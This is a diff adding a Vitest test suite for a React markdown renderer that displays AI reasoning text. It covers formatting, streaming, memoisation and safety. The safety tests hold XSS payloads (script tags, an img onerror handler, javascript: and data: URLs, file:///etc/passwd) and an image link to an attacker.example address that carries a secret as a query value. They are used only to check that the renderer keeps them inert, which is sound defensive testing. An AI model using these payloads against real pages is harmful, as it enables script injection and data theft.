@@ -1,0 +1,327 @@
+/**
+ * Markdown, the styled layer's default renderer (issue 12): every construct,
+ * the safety rules (raw HTML as text, only http(s)/mailto links, images never
+ * loaded), the streaming rules (no prefix of a text throws, half-typed
+ * constructs do not flicker) and memoisation (finished paragraphs never parse again).
+ */
+import { act, fireEvent, render, screen } from '@testing-library/react'
+import fc from 'fast-check'
+import { afterEach, describe, expect, it, vi } from 'vitest'
+import { ReasoningPanel, ReasoningProvider, ReasoningSummary, markdownText, plainText, type ReasoningPanelProps, type RenderText } from 'reasoning-ui'
+import { Markdown } from '../../src/react/markdown'
+import { content, feed, msgStart, run, span, testStore } from '../helpers/events'
+
+/** Renders one paragraph of markdown (finished unless `live`). */
+function md(text: string, live = false): HTMLElement {
+  return render(<Markdown text={text} live={live} />).container
+}
+
+/** A streaming panel at `full` with the text `text`, and a way to append to it. */
+function panelWith(text: string, props: Partial<ReasoningPanelProps> = {}) {
+  const store = testStore()
+  feed(store, run(), span('s1'), msgStart('m1'), content('m1', text))
+  const ui = () => (
+    <ReasoningProvider now={() => store.clock.now}>
+      <ReasoningPanel block={store.getState().blocks[0]!} animationDuration={0} {...props} />
+    </ReasoningProvider>
+  )
+  const result = render(ui())
+  return {
+    ...result,
+    append(delta: string) {
+      feed(store, content('m1', delta))
+      result.rerender(ui())
+    },
+    text: () => result.container.querySelector('[data-slot="reasoning-text"]') as HTMLElement,
+  }
+}
+
+/** Elements that would fetch or run something: none may ever come from reasoning text. */
+const ACTIVE = 'img, script, iframe, object, embed, link, style, video, audio, source, svg, form, base, meta'
+
+afterEach(() => vi.restoreAllMocks())
+
+describe('constructs', () => {
+  it('should render bold, emphasis, inline code and strikethrough', () => {
+    const el = md('**bold** and *em* and _also_ and `x < y` and ~~gone~~')
+    expect(el.querySelector('strong')).toHaveTextContent('bold')
+    expect([...el.querySelectorAll('em')].map((e) => e.textContent)).toEqual(['em', 'also'])
+    expect(el.querySelector('code')).toHaveTextContent('x < y')
+    expect(el.querySelector('del')).toHaveTextContent('gone')
+    expect(el).not.toHaveTextContent('*')
+  })
+
+  it('should not take underscores inside words, nor dollar amounts, for markup', () => {
+    const el = md('call snake_case_name with $5 and $10')
+    expect(el.querySelector('em')).toBeNull()
+    expect(el).toHaveTextContent('call snake_case_name with $5 and $10')
+  })
+
+  it('should render a fenced code block with its language, a copy button and the code as it is', () => {
+    const el = md('```ts\nconst a = 1\n\nif (a < 2) {}\n```')
+    const block = el.querySelector('[data-slot="reasoning-code"]')!
+    expect(block.querySelector('[data-slot="reasoning-code-language"]')).toHaveTextContent('ts')
+    expect(block.querySelector('pre > code')!.textContent).toBe('const a = 1\n\nif (a < 2) {}')
+    expect(screen.getByRole('button', { name: 'Copy code' })).toHaveAttribute('type', 'button')
+  })
+
+  it('should render a ~~~ fence as a code block, ``` lines inside it included', () => {
+    const el = md('~~~md\n```\n\n**not bold**\n~~~')
+    expect(el.querySelectorAll('[data-slot="reasoning-code"]')).toHaveLength(1)
+    expect(el.querySelector('[data-slot="reasoning-code-language"]')).toHaveTextContent('md')
+    expect(el.querySelector('pre code')!.textContent).toBe('```\n\n**not bold**')
+  })
+
+  it('should copy the code and say "Copied" for a moment', async () => {
+    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] })
+    const writeText = vi.fn(() => Promise.resolve())
+    vi.stubGlobal('navigator', { ...navigator, clipboard: { writeText } })
+    try {
+      md('```\nrm -rf build\n```')
+      await act(async () => fireEvent.click(screen.getByRole('button', { name: 'Copy code' })))
+      expect(writeText).toHaveBeenCalledWith('rm -rf build')
+      expect(screen.getByRole('button', { name: 'Copied' })).toHaveAttribute('data-copied', '')
+      act(() => vi.advanceTimersByTime(2000))
+      expect(screen.getByRole('button', { name: 'Copy code' })).not.toHaveAttribute('data-copied')
+    } finally {
+      vi.unstubAllGlobals()
+      vi.useRealTimers()
+    }
+  })
+
+  it('should name the copy button with the labels in effect', () => {
+    render(
+      <ReasoningProvider labels={{ copyCode: 'Code kopieren', copied: 'Kopiert' }}>
+        <Markdown text={'```\nx\n```'} />
+      </ReasoningProvider>,
+    )
+    expect(screen.getByRole('button', { name: 'Code kopieren' })).toBeInTheDocument()
+  })
+
+  it('should render unordered, ordered, nested and task lists', () => {
+    const el = md('- one\n- two\n  - nested\n\n3. three\n4. four\n\n- [x] done\n- [ ] open')
+    const lists = el.querySelectorAll(':scope > ul, :scope > ol')
+    expect(lists[0]!.tagName).toBe('UL')
+    expect(lists[0]!.querySelector(':scope ul li')).toHaveTextContent('nested')
+    expect(lists[1]!.tagName).toBe('OL')
+    expect(lists[1]).toHaveAttribute('start', '3')
+    const boxes = el.querySelectorAll<HTMLInputElement>('input[type="checkbox"]')
+    expect([...boxes].map((b) => [b.checked, b.disabled])).toEqual([
+      [true, true],
+      [false, true],
+    ])
+  })
+
+  it('should render ATX headings and bold title lines as headings, never as h1–h6', () => {
+    const el = md('# Plan\n**Counting legs**\nA spider has eight.')
+    const headings = el.querySelectorAll('[data-slot="reasoning-heading"]')
+    expect([...headings].map((h) => h.textContent)).toEqual(['Plan', 'Counting legs'])
+    expect(headings[0]).toHaveAttribute('data-level', '1')
+    expect(el.querySelector('h1, h2, h3, h4, h5, h6')).toBeNull()
+    expect(el.querySelector(':scope > p:last-child')).toHaveTextContent('A spider has eight.')
+    expect(el).not.toHaveTextContent('**')
+  })
+
+  it('should render a blockquote, a rule and line breaks', () => {
+    const el = md('> quoted\n> more\n\n---\n\nline one\nline two')
+    expect(el.querySelector('blockquote')).toHaveTextContent('quoted')
+    expect(el.querySelector('hr')).not.toBeNull()
+    expect(el.querySelector('p:last-child br')).not.toBeNull()
+  })
+
+  it('should render a table with a header row, in a box that scrolls sideways', () => {
+    const el = md('| Animal | Legs |\n|---|---|\n| spider | **8** |\n| ant | 6 |')
+    const box = el.querySelector('[data-slot="reasoning-table"]')!
+    expect(box).toHaveAttribute('tabindex', '0')
+    expect([...box.querySelectorAll('th')].map((c) => c.textContent)).toEqual(['Animal', 'Legs'])
+    expect([...box.querySelectorAll('tbody tr')].map((r) => [...r.children].map((c) => c.textContent))).toEqual([
+      ['spider', '8'],
+      ['ant', '6'],
+    ])
+    expect(box.querySelector('td strong')).toHaveTextContent('8')
+  })
+
+  it('should render http(s) and mailto links with rel="noopener noreferrer nofollow" in a new tab', () => {
+    const el = md('[docs](https://example.com/a?b=1) and [mail](mailto:a@example.com) and https://example.org/raw')
+    const links = [...el.querySelectorAll('a')]
+    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/a?b=1', 'mailto:a@example.com', 'https://example.org/raw'])
+    for (const a of links) {
+      expect(a).toHaveAttribute('rel', 'noopener noreferrer nofollow')
+      expect(a).toHaveAttribute('target', '_blank')
+    }
+  })
+})
+
+describe('safety', () => {
+  it('should show raw HTML as text', () => {
+    const el = md('<script>alert(1)</script> <b>bold?</b> <img src=x onerror=alert(1)>\n\n<div onclick="x()">block</div>')
+    expect(el.querySelector('script, b, img, div')).toBeNull()
+    expect(el).toHaveTextContent('<script>alert(1)</script> <b>bold?</b> <img src=x onerror=alert(1)>')
+    expect(el).toHaveTextContent('<div onclick="x()">block</div>')
+  })
+
+  it.each([
+    ['javascript:alert(1)'],
+    ['JaVaScRiPt:alert(1)'],
+    [' javascript:alert(1)'],
+    ['data:text/html,<script>alert(1)</script>'],
+    ['vbscript:msgbox(1)'],
+    ['//evil.example/x'],
+    ['/relative/path'],
+    ['file:///etc/passwd'],
+    ['https:evil'],
+  ])('should not make a link of %s', (href) => {
+    const el = md(`[click me](${href})`)
+    expect(el.querySelector('a')).toBeNull()
+    expect(el).toHaveTextContent('click me')
+  })
+
+  it('should never load an image: its alt text and address show as text', () => {
+    const fetchSpy = vi.spyOn(globalThis, 'fetch')
+    const el = md('Look: ![a secret diagram](https://attacker.example/leak?d=SECRET) and ![](http://x.example/y.png)')
+    expect(el.querySelector(ACTIVE)).toBeNull()
+    expect(el.querySelector('[data-slot="reasoning-image-alt"]')).toHaveTextContent('a secret diagram')
+    expect([...el.querySelectorAll('[data-slot="reasoning-image-url"]')].map((u) => u.textContent)).toEqual([
+      'https://attacker.example/leak?d=SECRET',
+      'http://x.example/y.png',
+    ])
+    expect(el.querySelector('a')).toBeNull()
+    expect(fetchSpy).not.toHaveBeenCalled()
+  })
+
+  it('should keep payloads in code fences, tables and link text as text', () => {
+    const el = md('```html\n<script>alert(1)</script>\n```\n\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| a | b |')
+    expect(el.querySelector(ACTIVE)).toBeNull()
+    expect(el.querySelector('a')).toBeNull()
+    expect(el.querySelector('pre code')).toHaveTextContent('<script>alert(1)</script>')
+  })
+})
+
+describe('streaming', () => {
+  const RICH = [
+    '**Counting legs**',
+    'A spider has **eight** legs, an ant _six_; see `legs(animal)` and snake_case.',
+    '1. first\n2. second\n   - nested [link](https://example.com)',
+    '> a quote with ~~strike~~',
+    '| a | b |\n|---|---|\n| 1 | 2 |',
+    '```py\ndef legs(x):\n\n    return 8\n```',
+    '![img](https://example.com/x.png) <b>html</b> [bad](javascript:alert(1)) $5',
+    '# Done\n---\n- [x] checked',
+  ].join('\n\n')
+
+  it('should render every prefix of a markdown-rich text, live or finished, without throwing or logging', () => {
+    const error = vi.spyOn(console, 'error')
+    fc.assert(
+      fc.property(fc.integer({ min: 0, max: RICH.length }), fc.boolean(), (end, live) => {
+        const { unmount } = render(<Markdown text={RICH.slice(0, end)} live={live} />)
+        unmount()
+      }),
+      { numRuns: 300 },
+    )
+    expect(error).not.toHaveBeenCalled()
+  })
+
+  it('should render any text without throwing', () => {
+    const piece = fc.constantFrom('*', '**', '_', '`', '```', '~~~', '[', ']', '(', ')', '!', '|', '-', '>', '#', '\n', ' ', 'a', '1.', '$', '<', 'http://x', '\\', '\u0000')
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 40 }), fc.boolean(), (pieces, live) => {
+        const { unmount } = render(<Markdown text={pieces.join('')} live={live} />)
+        unmount()
+      }),
+      { numRuns: 300 },
+    )
+  })
+
+  it('should show an unclosed **bold as text until it closes', () => {
+    const el = md('The answer is **eig', true)
+    expect(el.querySelector('strong')).toBeNull()
+    expect(el).toHaveTextContent('The answer is **eig')
+    expect(md('The answer is **eight**', true).querySelector('strong')).toHaveTextContent('eight')
+  })
+
+  it('should grow an open code fence as a code block, never as paragraphs', () => {
+    for (const text of ['```ts\n', '```ts\nconst a = 1', '```ts\nconst a = 1\n\nconst b', '```ts\nconst a = 1\n\nconst b = 2\n```']) {
+      const el = md(text, true)
+      expect(el.querySelector(':scope > p'), text).toBeNull()
+      expect(el.querySelector('[data-slot="reasoning-code-language"]'), text).toHaveTextContent('ts')
+    }
+  })
+
+  it('should not make the live last line a heading before its line ends', () => {
+    expect(md('Intro\n**Counting legs**', true).querySelector('[data-slot="reasoning-heading"]')).toBeNull()
+    expect(md('Intro\n**Counting legs**\n', true).querySelector('[data-slot="reasoning-heading"]')).toHaveTextContent('Counting legs')
+  })
+
+  it('should keep a streaming code block one block across blank lines in a panel', () => {
+    const panel = panelWith('Try:\n\n```js\nconst a = 1\n\n')
+    panel.append('const b = 2\n```\n\nDone')
+    const blocks = panel.text().querySelectorAll('[data-slot="reasoning-code"]')
+    expect(blocks).toHaveLength(1)
+    expect(blocks[0]!.querySelector('code')!.textContent).toBe('const a = 1\n\nconst b = 2')
+  })
+})
+
+describe('memoisation', () => {
+  it('should never render (so never parse) a finished paragraph again while the live one streams', () => {
+    const renderText = vi.fn(markdownText)
+    const panel = panelWith('**Plan**\n\nFirst *we* count.\n\nThen', { renderText })
+    const rendered = () => renderText.mock.calls.map(([text, info]) => [text, info.live])
+    expect(rendered()).toEqual([
+      ['**Plan**', false],
+      ['First *we* count.', false],
+      ['Then', true],
+    ])
+    renderText.mockClear()
+    panel.append(' we **add**')
+    panel.append(' them up.')
+    expect(rendered()).toEqual([
+      ['Then we **add**', true],
+      ['Then we **add** them up.', true],
+    ])
+    expect(panel.text().querySelector('em')).toHaveTextContent('we')
+    expect(panel.text().querySelectorAll('strong')[1]).toHaveTextContent('add')
+  })
+
+  it('should keep the DOM of finished paragraphs under the default renderer while the live one streams', () => {
+    const panel = panelWith('First *we* count.\n\nThen')
+    const first = panel.text().querySelector('em')
+    panel.append(' more')
+    panel.append('\n\nAnd a third')
+    expect(panel.text().querySelector('em')).toBe(first)
+  })
+})
+
+describe('renderers', () => {
+  it('plainText should show the text as it is, asterisks included, with a bold title line as bold', () => {
+    const panel = panelWith('**Plan**\n\nA **bold** move <b>x</b>\n\nlast', { renderText: plainText })
+    const paragraphs = panel.text().querySelectorAll('[data-slot="reasoning-paragraph"]')
+    expect(paragraphs[0]!.querySelector('strong')).toHaveTextContent('Plan')
+    expect(paragraphs[1]!.textContent).toBe('A **bold** move <b>x</b>')
+    expect(panel.text().querySelector('b, em')).toBeNull()
+  })
+
+  it('markdownText passed explicitly should render as the default does', () => {
+    const a = panelWith('A **b**\n\n# H\n\nc', { renderText: markdownText }).text().innerHTML
+    const b = panelWith('A **b**\n\n# H\n\nc').text().innerHTML
+    expect(a).toBe(b)
+  })
+
+  it('renderText should still replace the renderer', () => {
+    const renderText: RenderText = (text) => <span data-testid="mine">{text.toUpperCase()}</span>
+    const panel = panelWith('a **b**\n\nc', { renderText })
+    expect([...panel.text().querySelectorAll('[data-testid="mine"]')].map((e) => e.textContent)).toEqual(['A **B**', 'C'])
+  })
+
+  it('should render a provider summary as markdown too', () => {
+    const store = testStore()
+    feed(store, run(), span('s1'), msgStart('m1'), content('m1', 'text'))
+    const blk = store.getState().blocks[0]!
+    const withSummary = { ...blk, messages: [...blk.messages, { ...blk.messages[0]!, id: 'sum', kind: 'summary' as const, text: '**Counting**\nThe *spider* has `8`' }] }
+    const { container } = render(<ReasoningSummary block={withSummary} />)
+    const summary = container.querySelector('[data-slot="reasoning-summary"]')!
+    expect(summary).toHaveAttribute('data-source', 'provider')
+    expect(summary.querySelector('[data-slot="reasoning-heading"]')).toHaveTextContent('Counting')
+    expect(summary.querySelector('em')).toHaveTextContent('spider')
+    expect(summary.querySelector('code')).toHaveTextContent('8')
+  })
+})
